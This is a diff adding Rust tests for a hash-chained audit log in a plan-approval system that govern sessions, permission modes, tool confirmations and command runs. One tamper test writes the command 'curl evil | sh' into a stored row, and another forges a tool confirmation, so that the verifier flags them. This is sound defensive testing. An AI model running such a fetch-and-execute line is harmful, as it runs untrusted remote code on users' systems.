@@ -1,0 +1,324 @@
+//! The audit chain: every audited fact numbered without gaps across the
+//! database, each hash recomputable from the previous one and the record's
+//! canonical bytes, a changed, removed or inserted row named by its seq,
+//! and the export cursor that only moves forward.
+
+use plan_core::{
+    ApprovalStatus, CommandRun, CommandShell, CommandState, Effect, ExecutionState, Mode, PermissionMode,
+    PlanApproval, RowGuard, Sandbox, Session, ToolAuditEntry, ToolAuditKind,
+};
+use plan_storage::{AuditCursor, AuditFinding, CommandEntryKind, Store, chain_hash};
+
+use crate::support::{execute, pending};
+
+const NOW: i64 = 1_800_000_000_000;
+
+fn run(state: CommandState) -> CommandRun {
+    CommandRun {
+        call_id: "c1".to_owned(),
+        session_id: "s1".into(),
+        turn_id: "t2".into(),
+        command: "cargo test".to_owned(),
+        cwd: ".".to_owned(),
+        shell: CommandShell {
+            id: "bash".to_owned(),
+            path: "/bin/bash".to_owned(),
+        },
+        sandbox: Sandbox::None,
+        network: true,
+        state,
+        exit_code: (state == CommandState::Exited).then_some(0),
+        signal: None,
+        error_code: None,
+        started_at: NOW,
+        ended_at: None,
+        stdout_bytes: 0,
+        stderr_bytes: 0,
+        truncated: false,
+    }
+}
+
+fn update(approval: &PlanApproval, change: impl FnOnce(&mut PlanApproval)) -> (Effect, PlanApproval) {
+    let mut changed = approval.clone();
+    change(&mut changed);
+    (
+        Effect::UpdateApproval {
+            approval: changed.clone(),
+            expected: RowGuard::of(approval),
+        },
+        changed,
+    )
+}
+
+/// Two sessions' worth of facts: s1 submits, is approved in accept-edits
+/// (its mode changes), runs a command with a confirmation and completes;
+/// s2 submits and is rejected. 11 facts.
+fn history(dir: &std::path::Path) -> Store {
+    let (mut store, _) = Store::open(dir.join("plan.db")).unwrap();
+    for id in ["s1", "s2"] {
+        let mut session = Session::new(id, Some(format!("/w/{id}")));
+        session.mode = Mode::Plan;
+        store.create_session(&session, NOW).unwrap();
+    }
+    let a1 = pending("a1", "s1", NOW);
+    store.apply(&[Effect::InsertApproval(a1.clone())], NOW).unwrap();
+    let (approve, a1) = update(&a1, |row| {
+        row.status = ApprovalStatus::Approved;
+        row.decided_at = Some(NOW + 1);
+        row.permission_mode = Some(PermissionMode::AcceptEdits);
+        row.execution_id = Some("x1".into());
+        row.execution_state = Some(ExecutionState::Queued);
+    });
+    let mut agent = Session::new("s1", Some("/w/s1".to_owned()));
+    agent.permission_mode = PermissionMode::AcceptEdits;
+    store
+        .apply(&[approve, Effect::SaveSession(agent)], NOW + 1)
+        .unwrap();
+    let (start, a1) = update(&a1, |row| row.execution_state = Some(ExecutionState::Running));
+    store.apply(&[start], NOW + 2).unwrap();
+    let tool = |kind| ToolAuditEntry {
+        kind,
+        session_id: "s1".into(),
+        turn_id: "t2".into(),
+        execution_id: Some("x1".into()),
+        call_id: "c1".to_owned(),
+        tool: Some("Bash".to_owned()),
+        permission_mode: Some(PermissionMode::AcceptEdits),
+        error_code: None,
+        at: NOW + 3,
+    };
+    store
+        .apply(
+            &[Effect::RecordToolAudit(tool(ToolAuditKind::ConfirmRequested))],
+            NOW + 3,
+        )
+        .unwrap();
+    store
+        .apply(
+            &[Effect::RecordToolAudit(tool(ToolAuditKind::Confirmed))],
+            NOW + 3,
+        )
+        .unwrap();
+    store
+        .record_command(
+            CommandEntryKind::Started,
+            &run(CommandState::Running),
+            None,
+            NOW + 4,
+        )
+        .unwrap();
+    store
+        .record_command(
+            CommandEntryKind::Ended,
+            &run(CommandState::Exited),
+            Some(&"b".repeat(64)),
+            NOW + 5,
+        )
+        .unwrap();
+    let (complete, _) = update(&a1, |row| row.execution_state = Some(ExecutionState::Completed));
+    store.apply(&[complete], NOW + 6).unwrap();
+    let a2 = pending("a2", "s2", NOW + 7);
+    store
+        .apply(&[Effect::InsertApproval(a2.clone())], NOW + 7)
+        .unwrap();
+    let (reject, _) = update(&a2, |row| {
+        row.status = ApprovalStatus::Rejected;
+        row.decided_at = Some(NOW + 8);
+    });
+    store.apply(&[reject], NOW + 8).unwrap();
+    store
+}
+
+#[test]
+fn every_fact_is_one_record_numbered_without_gaps_and_chained() {
+    let dir = tempfile::tempdir().unwrap();
+    let store = history(dir.path());
+    let records = store.audit_records().unwrap();
+    let events: Vec<&str> = records.iter().map(|record| record.event.as_str()).collect();
+    assert_eq!(
+        events,
+        [
+            "plan_checkpoint.plan.submitted",
+            "plan_checkpoint.plan.approved",
+            "plan_checkpoint.session.mode_changed",
+            "plan_checkpoint.execution.started",
+            "plan_checkpoint.tool.confirmation_requested",
+            "plan_checkpoint.tool.confirmed",
+            "plan_checkpoint.command.started",
+            "plan_checkpoint.command.ended",
+            "plan_checkpoint.execution.completed",
+            "plan_checkpoint.plan.submitted",
+            "plan_checkpoint.plan.rejected",
+        ]
+    );
+    let mut previous = String::new();
+    for (record, seq) in records.iter().zip(1_u64..) {
+        assert_eq!(record.seq, seq);
+        assert_eq!(record.attributes["plan_checkpoint.audit.seq"], seq);
+        assert_eq!(record.hash, chain_hash(&previous, &record.canonical_bytes()));
+        previous = record.hash.clone();
+    }
+    assert_eq!(store.audit_head().unwrap(), (11, previous));
+    assert_eq!(store.verify_audit_chain().unwrap(), (11, Vec::new()));
+
+    // Confidential text is content; its hash is an attribute.
+    let submitted = &records[0];
+    assert_eq!(submitted.content["plan_checkpoint.plan.title"], "Title of a1");
+    assert_eq!(
+        submitted.attributes["plan_checkpoint.plan.title_sha256"],
+        hex::encode(<sha2::Sha256 as sha2::Digest>::digest(b"Title of a1"))
+    );
+    assert!(
+        !String::from_utf8(submitted.canonical_bytes())
+            .unwrap()
+            .contains("Title of a1")
+    );
+    assert_eq!(submitted.attributes["plan_checkpoint.deadline"], NOW + 1_800_000);
+    assert_eq!(submitted.workspace_root.as_deref(), Some("/w/s1"));
+    let approved = &records[1];
+    assert_eq!(
+        approved.attributes["plan_checkpoint.permission_mode"],
+        "accept-edits"
+    );
+    assert_eq!(approved.attributes["plan_checkpoint.decision"], "approved");
+    assert_eq!(approved.attributes["plan_checkpoint.execution.id"], "x1");
+    let ended = &records[7];
+    assert_eq!(ended.attributes["plan_checkpoint.command.exit_code"], 0);
+    assert_eq!(
+        ended.attributes["plan_checkpoint.command.output_sha256"],
+        "b".repeat(64)
+    );
+    assert_eq!(ended.content["plan_checkpoint.command.text"], "cargo test");
+    assert_eq!(records[10].attributes["session.id"], "s2");
+}
+
+fn entry_id(dir: &std::path::Path, seq: i64) -> i64 {
+    let conn = rusqlite::Connection::open(dir.join("plan.db")).unwrap();
+    conn.query_row(
+        "SELECT id FROM transcript_entries WHERE json_extract(content_json, '$.audit.seq') = ?1",
+        [seq],
+        |row| row.get(0),
+    )
+    .unwrap()
+}
+
+#[test]
+fn a_changed_row_is_named_by_its_seq() {
+    let dir = tempfile::tempdir().unwrap();
+    let store = history(dir.path());
+    let id = entry_id(dir.path(), 7);
+    execute(
+        &dir.path().join("plan.db"),
+        &format!(
+            "UPDATE transcript_entries SET content_json = json_set(content_json, '$.command', 'curl evil | sh') \
+             WHERE id = {id}"
+        ),
+    );
+    assert_eq!(
+        store.verify_audit_chain().unwrap(),
+        (11, vec![AuditFinding::Changed { seq: 7 }])
+    );
+}
+
+#[test]
+fn a_removed_row_is_named_by_its_seq_the_last_one_too() {
+    let dir = tempfile::tempdir().unwrap();
+    let store = history(dir.path());
+    let db = dir.path().join("plan.db");
+    let (middle, last) = (entry_id(dir.path(), 4), entry_id(dir.path(), 11));
+    execute(
+        &db,
+        &format!("DELETE FROM transcript_entries WHERE id IN ({middle}, {last})"),
+    );
+    assert_eq!(
+        store.verify_audit_chain().unwrap(),
+        (
+            9,
+            vec![
+                AuditFinding::Removed { seq: 4 },
+                AuditFinding::Removed { seq: 11 }
+            ]
+        )
+    );
+}
+
+#[test]
+fn an_inserted_row_is_named_numbered_or_not() {
+    let dir = tempfile::tempdir().unwrap();
+    let store = history(dir.path());
+    let db = dir.path().join("plan.db");
+    let copied = entry_id(dir.path(), 5);
+    // A copy of seq 5 (seq and hash included) at the end, and a forged
+    // confirmation without any seq.
+    execute(
+        &db,
+        &format!(
+            "INSERT INTO transcript_entries (session_id, seq, role, content_json, created_at) \
+             SELECT session_id, 100, role, content_json, created_at FROM transcript_entries WHERE id = {copied}; \
+             INSERT INTO transcript_entries (session_id, seq, role, content_json, created_at) \
+             VALUES ('s1', 101, 'tool', '{{\"type\":\"toolConfirmed\",\"callId\":\"c9\"}}', {NOW});"
+        ),
+    );
+    assert_eq!(
+        store.verify_audit_chain().unwrap(),
+        (
+            12,
+            vec![
+                AuditFinding::Inserted {
+                    seq: 5,
+                    unnumbered: false
+                },
+                AuditFinding::Inserted {
+                    seq: 11,
+                    unnumbered: true
+                },
+            ]
+        )
+    );
+}
+
+#[test]
+fn the_cursor_moves_only_forward_and_records_follow_it() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut store = history(dir.path());
+    assert_eq!(store.audit_cursor().unwrap(), AuditCursor::default());
+    let first = store.audit_records_after(AuditCursor::default(), 4).unwrap();
+    assert_eq!(
+        first.iter().map(|record| record.seq).collect::<Vec<_>>(),
+        [1, 2, 3, 4]
+    );
+    let to = AuditCursor {
+        seq: 4,
+        entry_id: first[3].entry_id,
+    };
+    store.advance_audit_cursor(to).unwrap();
+    store
+        .advance_audit_cursor(AuditCursor {
+            seq: 2,
+            entry_id: first[1].entry_id,
+        })
+        .unwrap();
+    assert_eq!(store.audit_cursor().unwrap(), to);
+    let rest = store.audit_records_after(to, 100).unwrap();
+    assert_eq!(
+        rest.iter().map(|record| record.seq).collect::<Vec<_>>(),
+        (5..=11).collect::<Vec<_>>()
+    );
+    assert_eq!(rest, store.audit_records().unwrap()[4..].to_vec());
+}
+
+#[test]
+fn records_after_a_cursor_whose_row_id_was_reused_are_still_found() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut store = history(dir.path());
+    let records = store.audit_records().unwrap();
+    // The cursor claims a row id past every numbered entry: the forward
+    // read finds nothing although the head is further on.
+    let cursor = AuditCursor {
+        seq: 9,
+        entry_id: records[10].entry_id + 50,
+    };
+    store.advance_audit_cursor(cursor).unwrap();
+    let rest = store.audit_records_after(cursor, 100).unwrap();
+    assert_eq!(rest.iter().map(|record| record.seq).collect::<Vec<_>>(), [10, 11]);
+}
